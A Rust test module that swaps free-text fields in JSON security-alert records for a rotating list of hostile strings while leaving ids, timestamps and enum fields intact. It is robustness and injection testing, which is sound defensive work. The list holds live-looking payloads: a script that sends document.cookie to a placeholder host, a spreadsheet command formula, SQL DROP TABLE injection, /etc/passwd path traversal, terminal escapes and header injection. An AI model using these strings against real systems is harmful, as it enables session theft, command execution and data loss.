//! Hostile texts in every field that holds a free text: what an attacker can write into a subject, a file name or a
//! command line. Ids, times, enum members and links of the protocol stay, or nothing would arrive at all.

use serde_json::Value;

/// The texts; each is put beside a marker that says which field it stands in.
const TEXTS: &[&str] = &[
    "<img src=x onerror=alert(1)><script>fetch('http://127.0.0.1:9/'+document.cookie)</script>",
    "=cmd|'/c calc'!A0",
    "\u{202e}gpj.exe\u{202c} \u{2066}reversed\u{2069}",
    "\u{1b}]0;owned\u{7}\u{1b}[2J\u{1b}[31mred",
    "line one\r\nSet-Cookie: a=b\r\n\r\n<h1>two",
    "'; DROP TABLE alerts; -- \" ) OR 1=1",
    "[click](javascript:alert(1)) ![x](http://127.0.0.1:9/pixel)",
    "nul\u{0}inside, a bell\u{7}, a delete\u{7f}",
    "\u{200b}\u{feff}zero\u{200d}width\u{2060}",
    "../../../../etc/passwd\\..\\..\\boot.ini",
    "{{constructor.constructor('alert(1)')()}} ${7*7} %s%n %p {0}",
    "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301} \u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467} \u{fffd} \u{10ffff}",
];

/// One in so many texts is very long instead.
const LONG_ONE_IN: usize = 97;

/// How long a very long text is.
const LONG: usize = 20_000;

/// Fields that keep their values, whatever record they are in (lower case).
const KEPT: &[&str] = &[
    "id",
    "identity",
    "severity",
    "status",
    "servicesource",
    "detectionsource",
    "classification",
    "determination",
    "investigationstate",
    "verdict",
    "remediationstatus",
    "roles",
    "contenttype",
    "contenturi",
    "contentcreated",
    "contentexpiration",
    "healthstatus",
    "riskscore",
    "type",
    "action",
    "indicatortype",
    "releasestatus",
    "source",
    "detectionstatus",
    "onboardingstatus",
    "defenderavstatus",
    "operation",
    "workload",
    "category",
];

/// Endings of such fields (lower case).
const KEPT_ENDINGS: &[&str] = &["id", "ids", "datetime", "time", "link", "uri"];

/// Puts hostile texts in, the next one each time.
#[derive(Debug, Default)]
pub(crate) struct Texts(usize);

impl Texts {
    /// Replaces every free text in a record.
    pub(crate) fn replace_in(&mut self, record: &mut Value) {
        self.walk("", record);
    }

    fn walk(&mut self, name: &str, value: &mut Value) {
        match value {
            Value::Object(map) => map.iter_mut().for_each(|(name, inner)| self.walk(name, inner)),
            Value::Array(items) => items.iter_mut().for_each(|inner| self.walk(name, inner)),
            Value::String(text) if !name.is_empty() && !keeps(name, text) => *text = self.next(name),
            _ => {}
        }
    }

    fn next(&mut self, name: &str) -> String {
        self.0 += 1;
        match self.0 % LONG_ONE_IN {
            0 => format!("{name} {}", "A".repeat(LONG)),
            number => format!("{name} {}", TEXTS[number % TEXTS.len()]),
        }
    }
}

fn keeps(name: &str, text: &str) -> bool {
    let name = name.to_ascii_lowercase();
    name.contains('@')
        || KEPT.contains(&name.as_str())
        || KEPT_ENDINGS.iter().any(|ending| name.ends_with(ending))
        || uuid::Uuid::try_parse(text).is_ok()
        || text.parse::<jiff::Timestamp>().is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn free_texts_turn_hostile_and_the_protocol_stays() {
        let mut record = json!({
            "id": "a", "severity": "high", "createdDateTime": "2026-01-01T00:00:00Z", "title": "Malware",
            "evidence": [{ "@odata.type": "#x", "fileDetails": { "fileName": "a.exe" }, "tags": ["one", "two"] }],
        });
        Texts::default().replace_in(&mut record);
        assert_eq!(
            (&record["id"], &record["severity"]),
            (&json!("a"), &json!("high")),
            "lists must still be filterable"
        );
        assert_eq!(record["evidence"][0]["@odata.type"], "#x");
        let title = record["title"].as_str().unwrap_or("");
        assert!(title.starts_with("title ") && title != "Malware", "{title}");
        assert!(record["evidence"][0]["fileDetails"]["fileName"] != "a.exe", "at any depth");
        assert!(record["evidence"][0]["tags"][1] != "two", "and in lists");
    }
}
